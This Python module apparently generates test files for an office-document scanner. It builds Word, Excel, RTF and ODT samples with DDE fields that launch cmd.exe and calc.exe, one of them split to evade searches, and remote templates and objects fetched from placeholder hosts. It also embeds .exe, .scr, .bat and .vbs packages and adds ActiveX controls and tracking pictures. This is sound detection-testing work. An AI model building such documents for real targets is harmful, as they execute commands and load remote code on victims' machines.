"""Office files that fetch from outside or start something, and honest ones with ordinary links."""

from collections.abc import Callable, Iterator

from . import bases, office
from .case import Case
from .cases_programs import exe
from .office import odf, odt_body, unzipped, zipped
from .packages import R_NS, content_type, in_body, package, relate

OLE = "application/vnd.openxmlformats-officedocument.oleObject"
_V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'


def _docx(label: str, change: Callable[[dict[str, bytes]], None]) -> bytes:
    parts = unzipped(bases.docx(label))
    change(parts)
    return zipped(parts)


def _xlsx(label: str, change: Callable[[dict[str, bytes]], None]) -> bytes:
    parts = unzipped(bases.xlsx(label))
    change(parts)
    return zipped(parts)


def dde_field(code: str, pieces: int = 1) -> Callable[[dict[str, bytes]], None]:
    """A field code in one run or cut over several, as it is hidden from simple searches."""
    step = -(-len(code) // pieces)
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{code[i : i + step]}</w:instrText></w:r>'
        for i in range(0, len(code), step)
    )
    xml = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>memuat</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return lambda parts: in_body(parts, xml)


def simple_field(code: str) -> Callable[[dict[str, bytes]], None]:
    return lambda parts: in_body(
        parts, f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    )


def template_at(target: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        relate(parts, "word/settings.xml", "rIdT1", "attachedTemplate", target, outside=True)
        text = parts["word/settings.xml"]
        at = text.index(b">", text.index(b"<w:settings")) + 1
        parts["word/settings.xml"] = text[:at] + f'<w:attachedTemplate {R_NS} r:id="rIdT1"/>'.encode() + text[at:]

    return change


def object_at(target: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        relate(parts, "word/document.xml", "rIdO1", "oleObject", target, outside=True)
        in_body(
            parts,
            f'<w:p><w:r><w:object><o:OLEObject {_V} {R_NS} Type="Link" ProgID="htmlfile" ShapeID="s1" '
            'DrawAspect="Content" '
            'r:id="rIdO1" UpdateMode="OnCall"/></w:object></w:r></w:p>',
        )

    return change


def picture_at(target: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        relate(parts, "word/document.xml", "rIdP1", "image", target, outside=True)
        in_body(
            parts,
            f'<w:p><w:r><w:pict><v:shape {_V} id="s2" style="width:1pt;height:1pt"><v:imagedata {R_NS} r:id="rIdP1"/>'
            "</v:shape></w:pict></w:r></w:p>",
        )

    return change


def carries(name: str, data: bytes, folder: str = "word", main: str = "document") -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts[f"{folder}/embeddings/oleObject1.bin"] = package(name, data)
        content_type(parts, ending="bin", kind=OLE)
        relate(parts, f"{folder}/{main}.xml", "rIdE1", "oleObject", "embeddings/oleObject1.bin")
        if folder == "word":
            in_body(
                parts,
                f'<w:p><w:r><w:object><o:OLEObject {_V} {R_NS} Type="Embed" ProgID="Package" ShapeID="s3" '
                'DrawAspect="Icon" r:id="rIdE1"/></w:object></w:r></w:p>',
            )

    return change


def active(folder: str, main: str) -> Callable[[dict[str, bytes]], None]:
    """A button from the toolbox."""

    def change(parts: dict[str, bytes]) -> None:
        parts[f"{folder}/activeX/activeX1.xml"] = (
            '<?xml version="1.0" encoding="UTF-8"?><ax:ocx ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" '
            'ax:persistence="persistStreamInit" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
            f'{R_NS} r:id="rId1"/>'
        ).encode()
        parts[f"{folder}/activeX/activeX1.bin"] = b"\x40\x32\x05\xd7\x69\xce\xcd\x11" + b"\0" * 64
        content_type(parts, part=f"{folder}/activeX/activeX1.xml", kind="application/vnd.ms-office.activeX+xml")
        content_type(parts, ending="bin", kind="application/vnd.ms-office.activeX")
        relate(
            parts,
            f"{folder}/activeX/activeX1.xml",
            "rId1",
            "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
            "activeX1.bin",
        )
        up = "" if folder == "word" else "../"
        relate(parts, f"{folder}/{main}.xml", "rIdA1", "control", f"{up}activeX/activeX1.xml")
        if folder == "word":
            in_body(
                parts,
                f'<w:p><w:r><w:object><w:control {R_NS} r:id="rIdA1" w:name="Tombol1" w:shapeid="s4"/>'
                "</w:object></w:r></w:p>",
            )

    return change


_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_XL = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"


def external(xml: str, target: str = "") -> Callable[[dict[str, bytes]], None]:
    """An external link of a workbook, with the list that names it."""

    def change(parts: dict[str, bytes]) -> None:
        parts["xl/externalLinks/externalLink1.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><externalLink {_S} {R_NS}>{xml}</externalLink>'.encode()
        )
        content_type(parts, part="xl/externalLinks/externalLink1.xml", kind=_XL)
        if target:
            relate(parts, "xl/externalLinks/externalLink1.xml", "rId1", "externalLinkPath", target, outside=True)
        relate(parts, "xl/workbook.xml", "rIdX1", "externalLink", "externalLinks/externalLink1.xml")
        book = parts["xl/workbook.xml"]
        entry = f'</sheets><externalReferences><externalReference {R_NS} r:id="rIdX1"/></externalReferences>'
        parts["xl/workbook.xml"] = book.replace(b"</sheets>", entry.encode())
        page = parts["xl/worksheets/sheet1.xml"]
        if target:
            parts["xl/worksheets/sheet1.xml"] = page.replace(
                b"</sheetData>", b'<row r="90"><c r="A90"><f>[1]Rekap!$C$5</f><v>12</v></c></row></sheetData>'
            )

    return change


_BOOK = '<externalBook r:id="rId1"><sheetNames><sheetName val="Rekap"/></sheetNames></externalBook>'


def _odt(label: str, extra: str) -> bytes:
    return odf(odt_body(bases.paper(label)) + extra)


def _frame(tag: str, href: str) -> str:
    return (
        f'<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:{tag} xlink:href="{href}" xlink:type="simple" '
        'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
    )


def cases() -> Iterator[Case]:
    c = bases.codes
    for i, change in enumerate(
        (
            dde_field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'),
            dde_field(r'DDE excel "data.xlsx" R1C1', 1),
            dde_field(r'DDEAUTO excel "C:\\data.xls" R1C1', 5),
            simple_field("DDE excel data.xlsx R1C1"),
        )
    ):
        yield Case(f"DDE di Word {i}", f"Surat {i}.docx", lambda f=change, n=i: _docx(f"dde {n}", f), c("dde"))
    for i, (service, topic) in enumerate((("cmd", "/c calc.exe"), ("Excel", "harga.xls"))):
        link = (
            f'<ddeLink ddeService="{service}" ddeTopic="{topic}">'
            '<ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink>'
        )
        yield Case(
            f"DDE di Excel {i}", f"KK {i}.xlsx", lambda x=link, n=i: _xlsx(f"dde x{n}", external(x)), c("dde"), "data"
        )
    for i, (name, data) in enumerate(
        (("cetak.exe", exe()), ("buka.scr", exe()), ("jalan.bat", b"@echo off\r\npause\r\n"), ("x.vbs", b'MsgBox "x"'))
    ):
        yield Case(
            f"program di dalam Word {name}",
            f"Lampiran {i}.docx",
            lambda a=name, d=data, n=i: _docx(f"dalam {n}", carries(a, d)),
            c("program_inside"),
        )
    yield Case(
        "program di dalam Excel",
        "KK.xlsx",
        lambda: _xlsx("dalam x", carries("cetak.exe", exe(), "xl", "worksheets/sheet1")),
        c("program_inside"),
        "data",
    )
    for i, to in enumerate(
        ("http://203.0.113.7/a.dotm", "https://contoh.example/t/normal.dotm", "file://203.0.113.9/bagi/surat.dotx")
    ):
        yield Case(
            f"templat dari luar {i}",
            f"Undangan {i}.docx",
            lambda t=to, n=i: _docx(f"templat {n}", template_at(t)),
            c("outside_template"),
        )
    yield Case(
        "templat dari luar di RTF",
        "Undangan.rtf",
        lambda: office.rtf(bases.paper("rtf"), r"{\*\template http://contoh.example/t.dotm}"),
        c("outside_template"),
    )
    for i, to in enumerate(
        (
            "http://203.0.113.7/a.html",
            "https://contoh.example/obyek.hta",
            "mhtml:http://contoh.example/x.html!x-usc:http://contoh.example/x.html",
        )
    ):
        yield Case(
            f"objek dari luar {i}",
            f"Laporan {i}.docx",
            lambda t=to, n=i: _docx(f"objek {n}", object_at(t)),
            c("outside_object"),
        )
    yield Case(
        "objek dari luar di ODT",
        "Laporan.odt",
        lambda: _odt("objek odt", _frame("object", "http://contoh.example/a.ods")),
        c("outside_object"),
    )
    for i, to in enumerate(
        ("http://203.0.113.7/p.png", "https://contoh.example/pelacak.gif?id=77", "https://contoh.example/logo.png")
    ):
        yield Case(
            f"gambar dari luar {i}",
            f"Surat logo {i}.docx",
            lambda t=to, n=i: _docx(f"gambar {n}", picture_at(t)),
            c("outside_picture"),
        )
    yield Case(
        "gambar dari luar di ODT",
        "Surat logo.odt",
        lambda: _odt("gambar odt", _frame("image", "https://contoh.example/p.png")),
        c("outside_picture"),
    )
    yield Case(
        "kontrol aktif di Word",
        "Formulir.docx",
        lambda: _docx("aktif", active("word", "document")),
        c("active_control"),
    )
    yield Case(
        "kontrol aktif di Excel",
        "Formulir.xlsx",
        lambda: _xlsx("aktif x", active("xl", "worksheets/sheet1")),
        c("active_control"),
        "data",
    )
    for i, to in enumerate(
        (
            "file:///C:\\Users\\Subbag\\Documents\\Rekap%20Izin.xlsx",
            "file:///\\\\server\\bagi\\data.xlsx",
            "Rekap%202019.xlsx",
            "https://contoh.example/rekap.xlsx",
        )
    ):
        yield Case(
            f"lembar terhubung ke lembar lain {i}",
            f"KK terhubung {i}.xlsx",
            lambda t=to, n=i: _xlsx(f"hubung {n}", external(_BOOK, t)),
            c("linked_workbook"),
            "data",
        )
